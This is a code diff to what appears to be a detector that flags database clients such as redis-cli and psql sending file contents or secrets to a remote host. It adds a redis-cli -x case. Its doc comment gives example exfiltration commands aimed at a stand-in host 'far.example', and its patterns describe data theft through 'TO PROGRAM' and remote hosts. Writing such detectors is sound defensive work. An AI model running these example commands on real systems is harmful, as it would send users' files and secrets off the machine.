@@ -140,13 +140,13 @@ function carriesOrServes(invocation: Invocation, reading: Reading): readonly Fin
     case 'redis-cli':
     case 'mongosh':
     case 'sqlcmd':
-      return tellsFar(args, reading)
+      return tellsFar(invocation, reading)
         ? seen('upload.raw', `${name} hands what a file holds to another machine`)
         : []
     case 'psql':
     case 'mysql':
     case 'mariadb': {
-      if (tellsFar(args, reading))
+      if (tellsFar(invocation, reading))
         return seen('upload.raw', `${name} hands what a file holds to another machine`)
       const isProgram = [...args, invocation.input ?? ''].some((arg) => /\bTO\s+PROGRAM\s+'/i.test(arg))
       if (isProgram) return seen('upload.program', `${name} hands a table to a program`)
@@ -200,14 +200,20 @@ const isMuch = (arg: string) =>
   !arg.startsWith('-') &&
   (/^(?:[~/.$*]|[A-Z]:\\)|[*\uE000]/.test(arg) || dataFile.test(arg) || matterOf(arg) !== undefined)
 
-/** `redis-cli -h far.example set k "$(cat file)"`. */
-function tellsFar(args: readonly string[], reading: Reading): boolean {
+/** `redis-cli -h far.example set k "$(cat file)"`, `… -x set k < file`. */
+function tellsFar(invocation: Invocation, reading: Reading): boolean {
+  const { name, args, streams } = invocation
   const at = args.findIndex((arg) => /^(-h|--host|-S)$/.test(arg))
   const host = at < 0 ? (args.find((arg) => /^(-h|--host=)[\w.-]/.test(arg)) ?? '') : (args[at + 1] ?? '')
   return (
     /\w\.[a-z]{2,}$|\d(\.\d+){3}$/i.test(host) &&
     !/\.(internal|local|lan|corp|svc|test)$|(^|[h=])(127|10|192\.168)\./.test(host) &&
-    args.some((arg) => sourcesOf(arg, reading).some(({ name: source }) => shows.test(source)))
+    (args.some((arg) => sourcesOf(arg, reading).some(({ name: source }) => shows.test(source))) ||
+      // `redis-cli -x` takes the last word from its input.
+      (name === 'redis-cli' &&
+        args.includes('-x') &&
+        (streams.stdin.kind === 'file' ||
+          upstreamOf(invocation, reading).some((each) => shows.test(each.name) || tellsSecrets(each)))))
   )
 }
 
